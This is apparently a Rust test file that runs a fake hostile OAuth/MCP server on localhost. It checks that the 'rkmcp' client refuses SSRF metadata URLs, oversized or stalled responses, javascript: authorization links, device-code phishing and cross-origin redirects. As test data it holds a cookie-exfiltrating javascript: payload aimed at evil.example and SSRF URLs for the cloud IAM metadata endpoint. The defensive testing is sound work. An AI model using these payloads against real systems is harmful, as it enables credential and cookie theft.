//! Hostile authorization servers and resource metadata, through the `rkmcp` binary (issue 35,
//! item 2). The peer is a small HTTP server written here that answers each path as a test says
//! (real servers do not misbehave on demand) and logs every request it receives:
//! - metadata URLs at link-local or private addresses are refused before anything is fetched,
//!   and the error says which address and why;
//! - oversized and slow answers (metadata, token) are cut off, naming the URL;
//! - a `javascript:` authorization URL is never shown or opened; a device-code prompt names the
//!   host of the page it sends the person to;
//! - an MCP request redirected to another origin is not followed: nothing reaches that origin.
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use rkmcp_tests::{rkmcp_command, stderr, write};

use crate::remote::remote_entry;

/// One canned answer: for requests whose method and path start as given.
struct Route {
    method: &'static str,
    path: String,
    answer: Vec<u8>,
    /// Send the answer one byte per this long (a stalling server).
    trickle: Option<Duration>,
}

fn route(method: &'static str, path: &str, answer: Vec<u8>) -> Route {
    Route {
        method,
        path: path.to_string(),
        answer,
        trickle: None,
    }
}

fn json(status: &str, body: &str) -> Vec<u8> {
    format!(
        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

/// The MCP endpoint's refusal, pointing at `resource_metadata` when given.
fn unauthorized(resource_metadata: Option<&str>) -> Vec<u8> {
    let challenge = match resource_metadata {
        Some(url) => format!("Bearer resource_metadata=\"{url}\""),
        None => "Bearer".to_string(),
    };
    format!(
        "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: {challenge}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
    )
    .into_bytes()
}

/// The hostile server: its origin (`http://127.0.0.1:PORT`) and what it was asked.
struct Hostile {
    origin: String,
    log: Arc<Mutex<Vec<String>>>,
}

impl Hostile {
    /// Requests received, as `METHOD PATH` plus their headers, one string each.
    fn requests(&self) -> Vec<String> {
        self.log.lock().unwrap().clone()
    }
}

/// Starts a server answering with `routes(origin)`; everything else is a 404.
fn hostile(routes: impl FnOnce(&str) -> Vec<Route>) -> Hostile {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let origin = format!("http://127.0.0.1:{}", listener.local_addr().unwrap().port());
    let routes = Arc::new(routes(&origin));
    let log = Arc::new(Mutex::new(Vec::new()));
    let seen = log.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(stream) = stream else { continue };
            let routes = routes.clone();
            let seen = seen.clone();
            std::thread::spawn(move || serve_one(stream, &routes, &seen));
        }
    });
    Hostile { origin, log }
}

fn serve_one(mut stream: std::net::TcpStream, routes: &[Route], log: &Mutex<Vec<String>>) {
    let Ok(clone) = stream.try_clone() else {
        return;
    };
    let mut reader = BufReader::new(clone);
    let mut head = String::new();
    let mut length = 0usize;
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 {
            return;
        }
        if line == "\r\n" {
            break;
        }
        if let Some(v) = line.to_ascii_lowercase().strip_prefix("content-length:") {
            length = v.trim().parse().unwrap_or(0);
        }
        head.push_str(&line);
    }
    let mut body = vec![0u8; length];
    let _ = reader.read_exact(&mut body);
    log.lock().unwrap().push(head.clone());
    let mut first = head.split_whitespace();
    let (method, path) = (first.next().unwrap_or(""), first.next().unwrap_or(""));
    let Some(route) = routes
        .iter()
        .find(|r| r.method == method && path.starts_with(&r.path))
    else {
        let _ = stream
            .write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        return;
    };
    match route.trickle {
        None => {
            let _ = stream.write_all(&route.answer);
        }
        Some(delay) => {
            for byte in &route.answer {
                if stream.write_all(&[*byte]).is_err() {
                    return;
                }
                std::thread::sleep(delay);
            }
        }
    }
}

/// Protected resource metadata naming `servers` as authorization servers.
fn resource_metadata(origin: &str, servers: &[&str]) -> Route {
    route(
        "GET",
        "/.well-known/oauth-protected-resource",
        json(
            "200 OK",
            &serde_json::json!({"resource": format!("{origin}/mcp"), "authorization_servers": servers})
                .to_string(),
        ),
    )
}

/// Authorization server metadata for the server itself, with `extra` fields over the defaults.
fn as_metadata(origin: &str, extra: serde_json::Value) -> serde_json::Value {
    let mut metadata = serde_json::json!({
        "issuer": origin,
        "authorization_endpoint": format!("{origin}/authorize"),
        "token_endpoint": format!("{origin}/token"),
        "registration_endpoint": format!("{origin}/register"),
        "response_types_supported": ["code"],
        "grant_types_supported": ["authorization_code", "client_credentials", "urn:ietf:params:oauth:grant-type:device_code"],
        "code_challenge_methods_supported": ["S256"],
        "token_endpoint_auth_methods_supported": ["client_secret_basic", "none"],
    });
    if let (Some(m), Some(e)) = (metadata.as_object_mut(), extra.as_object()) {
        for (k, v) in e {
            m.insert(k.clone(), v.clone());
        }
    }
    metadata
}

fn as_metadata_route(origin: &str, extra: serde_json::Value) -> Route {
    route(
        "GET",
        "/.well-known/oauth-authorization-server",
        json("200 OK", &as_metadata(origin, extra).to_string()),
    )
}

fn config(home: &Path, origin: &str, extra: &str) {
    write(
        home,
        "rkmcp.toml",
        &remote_entry("hostile", &format!("{origin}/mcp"), extra),
    );
}

/// `rkmcp ARGS` with the stdin closed and `env`; its stderr, after checking it failed.
fn fails(home: &Path, args: &[&str], env: &[(&str, &str)]) -> String {
    let mut cmd = rkmcp_command(home, args);
    cmd.stdin(std::process::Stdio::null());
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = cmd.output().unwrap();
    let err = stderr(&out);
    assert!(!out.status.success(), "it succeeded: {err}");
    err
}

/// A hostile server's routes, given the origin it is served at.
type HostileRoutes = Box<dyn Fn(&str) -> Vec<Route>>;

#[test]
fn metadata_urls_at_internal_addresses_are_refused_before_anything_is_fetched() {
    let cases: Vec<(&str, HostileRoutes, &[&str])> = vec![
        (
            "a challenge pointing at the cloud metadata service",
            Box::new(|_origin| {
                vec![route(
                    "POST",
                    "/mcp",
                    unauthorized(Some("http://169.254.169.254/latest/meta-data/iam/")),
                )]
            }),
            &["http://169.254.169.254/latest/meta-data/iam/", "link-local"],
        ),
        (
            "a challenge pointing into a private network",
            Box::new(|_origin| {
                vec![route(
                    "POST",
                    "/mcp",
                    unauthorized(Some(
                        "https://10.0.0.1/.well-known/oauth-protected-resource",
                    )),
                )]
            }),
            &["10.0.0.1 is a private-network address"],
        ),
        (
            "resource metadata naming an authorization server at a mapped link-local address",
            Box::new(|origin| {
                vec![
                    route("POST", "/mcp", unauthorized(None)),
                    resource_metadata(origin, &["https://[::ffff:169.254.169.254]/"]),
                ]
            }),
            &["::ffff:169.254.169.254", "link-local"],
        ),
        (
            "resource metadata naming a plain-http authorization server in a private network",
            Box::new(|origin| {
                vec![
                    route("POST", "/mcp", unauthorized(None)),
                    resource_metadata(origin, &["http://192.168.1.1/"]),
                ]
            }),
            &["192.168.1.1 is a private-network address"],
        ),
    ];
    for (what, routes, expected) in cases {
        let dir = tempfile::tempdir().unwrap();
        let server = hostile(routes);
        config(dir.path(), &server.origin, "");
        let err = fails(
            dir.path(),
            &[
                "auth",
                "login",
                "hostile",
                "--no-browser",
                "--timeout",
                "20s",
            ],
            &[],
        );
        for piece in expected {
            assert!(err.contains(piece), "{what}: `{piece}` not in {err}");
        }
        assert!(err.contains("sign-in failed at discovery"), "{what}: {err}");
        // No authorization server at the server's own origin was tried in place of the refused
        // one: nothing but the MCP endpoint (requests and rmcp's discovery probe) and its
        // resource metadata was asked of it.
        for request in server.requests() {
            assert!(
                request.starts_with("POST /mcp")
                    || request.starts_with("GET /mcp ")
                    || request.starts_with("GET /.well-known/oauth-protected-resource"),
                "{what}: unexpected request {request}"
            );
        }
    }
}

#[test]
fn oversized_and_slow_answers_are_cut_off() {
    // Metadata of 2 MiB.
    let dir = tempfile::tempdir().unwrap();
    let server = hostile(|origin| {
        let padded = as_metadata(origin, serde_json::json!({"padding": "x".repeat(2 << 20)}));
        vec![
            route("POST", "/mcp", unauthorized(None)),
            resource_metadata(origin, &[origin]),
            route(
                "GET",
                "/.well-known/oauth-authorization-server",
                json("200 OK", &padded.to_string()),
            ),
        ]
    });
    config(dir.path(), &server.origin, "");
    let err = fails(
        dir.path(),
        &[
            "auth",
            "login",
            "hostile",
            "--no-browser",
            "--timeout",
            "20s",
        ],
        &[],
    );
    assert!(
        err.contains(&format!(
            "the authorization server's metadata at {}/.well-known/oauth-authorization-server is larger than 1 MiB",
            server.origin
        )),
        "{err}\nrequests: {:#?}",
        server.requests()
    );

    // A token answer of 2 MiB, then one that trickles in a byte at a time (a minute in all),
    // for a machine client (client credentials).
    let machine = "[servers.auth]\ngrant = \"client_credentials\"\nclient_id = \"machine\"\nclient_secret = \"s3cret\"\n";
    let token = format!(
        "{{\"access_token\": \"t\", \"token_type\": \"Bearer\", \"padding\": \"{}\"}}",
        "x".repeat(2 << 20)
    );
    let big = hostile(|origin| {
        vec![
            route("POST", "/mcp", unauthorized(None)),
            resource_metadata(origin, &[origin]),
            as_metadata_route(origin, serde_json::json!({})),
            route("POST", "/token", json("200 OK", &token)),
        ]
    });
    config(dir.path(), &big.origin, machine);
    let err = fails(dir.path(), &["tools", "list"], &[]);
    assert!(
        err.contains(&format!(
            "the answer from {}/token is larger than 1 MiB",
            big.origin
        )),
        "{err}"
    );

    let slow = hostile(|origin| {
        let mut trickling = route(
            "POST",
            "/token",
            json(
                "200 OK",
                &format!(
                    "{{\"access_token\": \"t\", \"token_type\": \"Bearer\", \"padding\": \"{}\"}}",
                    "x".repeat(300)
                ),
            ),
        );
        trickling.trickle = Some(Duration::from_millis(200));
        vec![
            route("POST", "/mcp", unauthorized(None)),
            resource_metadata(origin, &[origin]),
            as_metadata_route(origin, serde_json::json!({})),
            trickling,
        ]
    });
    config(dir.path(), &slow.origin, machine);
    let started = Instant::now();
    let err = fails(dir.path(), &["tools", "list"], &[]);
    assert!(
        err.contains(&format!(
            "the request to {}/token did not complete within 10s",
            slow.origin
        )),
        "{err}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "not cut off: {:?}",
        started.elapsed()
    );
}

#[test]
fn an_authorization_url_that_is_not_a_web_address_is_never_opened() {
    let dir = tempfile::tempdir().unwrap();
    let server = hostile(|origin| {
        vec![
            route("POST", "/mcp", unauthorized(None)),
            resource_metadata(origin, &[origin]),
            as_metadata_route(
                origin,
                serde_json::json!({"authorization_endpoint": "javascript:fetch('https://evil.example/?'+document.cookie)//"}),
            ),
            route(
                "POST",
                "/register",
                json(
                    "201 Created",
                    r#"{"client_id": "registered", "redirect_uris": ["http://127.0.0.1/callback"], "token_endpoint_auth_method": "none"}"#,
                ),
            ),
        ]
    });
    config(dir.path(), &server.origin, "");
    // The "browser" leaves a mark if it is ever started.
    let opened = dir.path().join("opened");
    let browser = write(
        dir.path(),
        "browser.sh",
        &format!("#!/bin/sh\necho \"$1\" > {}\n", opened.display()),
    );
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(&browser, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let err = fails(
        dir.path(),
        &["auth", "login", "hostile", "--timeout", "20s"],
        &[("BROWSER", browser.to_str().unwrap())],
    );
    assert!(err.contains("`javascript:` is not a web address"), "{err}");
    assert!(err.contains("sign-in failed at authorization"), "{err}");
    assert!(
        !err.contains("Sign in to `hostile`"),
        "shown as a link: {err}"
    );
    assert!(!opened.exists(), "the browser was started");
}

#[test]
fn the_device_code_prompt_names_the_host_it_sends_the_person_to() {
    for (page, expected, refused) in [
        (
            "https://evil.example/device",
            vec![
                "open https://evil.example/device (a page at evil.example) and enter the code WDJB-MJHT",
                "sends you to evil.example: enter the code only if you trust that host",
            ],
            false,
        ),
        (
            "javascript:alert(1)",
            vec!["`javascript:` is not a web address"],
            true,
        ),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let device = serde_json::json!({
            "device_code": "dc", "user_code": "WDJB-MJHT", "verification_uri": page,
            "expires_in": 30, "interval": 1,
        })
        .to_string();
        let server = hostile(|origin| {
            vec![
                route("POST", "/mcp", unauthorized(None)),
                resource_metadata(origin, &[origin]),
                as_metadata_route(
                    origin,
                    serde_json::json!({"device_authorization_endpoint": format!("{origin}/device")}),
                ),
                route("POST", "/device", json("200 OK", &device)),
                route(
                    "POST",
                    "/token",
                    json("400 Bad Request", r#"{"error": "access_denied"}"#),
                ),
            ]
        });
        config(
            dir.path(),
            &server.origin,
            "[servers.auth]\nclient_id = \"device-client\"\n",
        );
        let err = fails(
            dir.path(),
            &["auth", "login", "hostile", "--device", "--timeout", "20s"],
            &[],
        );
        for piece in &expected {
            assert!(err.contains(piece), "`{piece}` not in {err}");
        }
        let port = server.origin.rsplit(':').next().unwrap_or_default();
        if refused {
            assert!(!err.contains("enter the code"), "{err}");
        } else {
            assert!(
                err.contains(&format!("The authorization server at 127.0.0.1:{port}")),
                "{err}"
            );
        }
    }
}

#[test]
fn an_mcp_request_redirected_to_another_origin_goes_nowhere_else() {
    let dir = tempfile::tempdir().unwrap();
    let elsewhere = hostile(|_| vec![route("POST", "/mcp", json("200 OK", "{}"))]);
    let target = format!("{}/mcp", elsewhere.origin);
    let server = hostile(|_| {
        vec![route(
            "POST",
            "/mcp",
            format!(
                "HTTP/1.1 307 Temporary Redirect\r\nLocation: {target}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            )
            .into_bytes(),
        )]
    });
    config(
        dir.path(),
        &server.origin,
        "transport = \"http\"\nheaders = { \"X-Api-Key\" = \"key-for-hostile-only\" }\n[servers.auth]\nbearer_token_env = \"HOSTILE_TOKEN\"\n",
    );
    let err = fails(
        dir.path(),
        &["tools", "list"],
        &[("HOSTILE_TOKEN", "token-for-hostile-only")],
    );
    assert!(err.contains("redirected to another origin"), "{err}");
    assert!(err.contains(&target), "{err}");
    assert!(
        server
            .requests()
            .iter()
            .any(|r| r.contains("token-for-hostile-only") && r.contains("key-for-hostile-only")),
        "the server itself got the request with its token: {:?}",
        server.requests()
    );
    assert_eq!(
        elsewhere.requests(),
        Vec::<String>::new(),
        "the other origin was sent the request"
    );
}
